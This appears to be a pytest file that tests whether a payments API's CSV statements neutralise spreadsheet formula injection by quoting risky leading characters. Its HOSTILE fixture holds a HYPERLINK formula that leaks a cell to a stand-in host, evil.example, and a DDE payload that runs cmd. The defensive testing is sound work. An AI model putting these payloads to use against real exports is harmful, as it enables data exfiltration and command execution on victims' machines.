"""Statement CSVs never hand a spreadsheet a formula (issue 32 §2.2, CWE-1236): a deposit's
sender name and reference come from outside the programme, so a text cell starting with `=`, `+`,
`-`, `@`, a tab or a carriage return is written with a leading `'`; amounts stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest

from tests.api.test_portal_web import signed_in_client
from tests.api.test_statements import charge_fee
from tests.factories import open_account, verified

HOSTILE = {
    "senderName": '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")',
    "reference": "@SUM(1+1)*cmd|' /C calc'!A0",
}


async def hostile_statement(client: httpx.AsyncClient, programme: Any) -> tuple[Any, Any, str]:
    p = await programme()
    ident = await verified(client, p, "corporates")
    acc = (await open_account(client, ident, "EUR", iban=True))["id"]
    for sender, reference in (
        (HOSTILE["senderName"], HOSTILE["reference"]),
        ("+44 20 7946 0000", "-2+3"),
        ("\tTabbed", "\rReturned"),
        ("Ada Lovelace", "INV-42"),
    ):
        r = await client.post(
            f"/simulate/api/accounts/{acc}/deposit",
            headers={"programme-key": p.api_key},
            json={
                "depositAmount": {"currency": "EUR", "amount": 1000},
                "senderName": sender,
                "reference": reference,
            },
        )
        assert r.json() == {"code": "COMPLETED"}, r.text
    await charge_fee(client, ident, acc, "/multi")  # a negative amount on the statement
    return p, ident, acc


def check_rows(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text)))
    senders = {r["additionalFields.sender"] for r in rows if r.get("additionalFields.sender")}
    references = {
        r["additionalFields.reference"] for r in rows if r.get("additionalFields.reference")
    }
    assert senders == {
        "'" + HOSTILE["senderName"],
        "'+44 20 7946 0000",
        "'\tTabbed",
        "Ada Lovelace",
    }
    assert references == {"'" + HOSTILE["reference"], "'-2+3", "'\rReturned", "INV-42"}
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
            if value.startswith("-"):
                int(value)  # only a number may start with a minus sign
    fee = [r for r in rows if r.get("additionalFields.chargeFeeType")]
    assert fee and int(fee[0]["transactionAmount.amount"]) < 0


@pytest.mark.parametrize("base", ["/multi", "/3.1.0/multi"])
async def test_api_statement_csv_neutralises_formulas(client, programme, base):
    _, ident, acc = await hostile_statement(client, programme)
    r = await client.get(
        f"{base}/managed_accounts/{acc}/statement",
        headers={**ident.headers, "accept": "text/csv"},
    )
    assert r.status_code == 200, r.text
    check_rows(r.text)
    # The JSON statement is data, not a spreadsheet: it keeps the text as it came.
    body = (
        await client.get(f"{base}/managed_accounts/{acc}/statement", headers=ident.headers)
    ).json()
    assert HOSTILE["senderName"] in {e["additionalFields"].get("sender") for e in body["entry"]}


async def test_portal_statement_csv_neutralises_formulas(app, client, programme):
    p, _, acc = await hostile_statement(client, programme)
    browser = await signed_in_client(app)
    try:
        r = await browser.get(f"/portal/programmes/{p.id}/accounts/{acc}/statement.csv")
    finally:
        await browser.aclose()
    assert r.status_code == 200, r.text
    check_rows(r.text)
